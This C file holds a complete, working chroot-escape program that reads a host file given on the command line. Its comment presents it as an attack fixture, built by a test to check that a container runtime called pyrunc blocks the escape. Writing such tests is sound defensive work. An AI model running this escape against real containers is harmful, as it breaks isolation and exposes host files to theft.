/* An attacker inside a container without a mount namespace (a chroot):
 * the classic chroot escape. chroot into a subdirectory while the cwd
 * stays outside it, walk ".." up to the mount namespace's root (the
 * host's "/"), chroot there, then print the file named by argv[1].
 * Exit 0 with the file's text when it escaped, 3 when chroot was refused
 * (errno printed), 4 when the file was not reachable.
 * Built static by the test (tests/test_attacks_chroot.py); never part of
 * pyrunc. */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

int main(int argc, char **argv)
{
    char buf[4096];
    if (argc < 2)
        return 2;
    mkdir("/.escape", 0700);
    if (chroot("/.escape") != 0) {  /* (cwd stays "/", now outside the root) */
        printf("chroot: %s\n", strerror(errno));
        return 3;
    }
    for (int i = 0; i < 256; i++)
        if (chdir("..") != 0)
            break;
    if (chroot(".") != 0) {
        printf("chroot .: %s\n", strerror(errno));
        return 3;
    }
    int fd = open(argv[1], O_RDONLY);
    if (fd < 0) {
        printf("open: %s\n", strerror(errno));
        return 4;
    }
    ssize_t n = read(fd, buf, sizeof buf - 1);
    buf[n > 0 ? n : 0] = 0;
    printf("%s", buf);
    return 0;
}
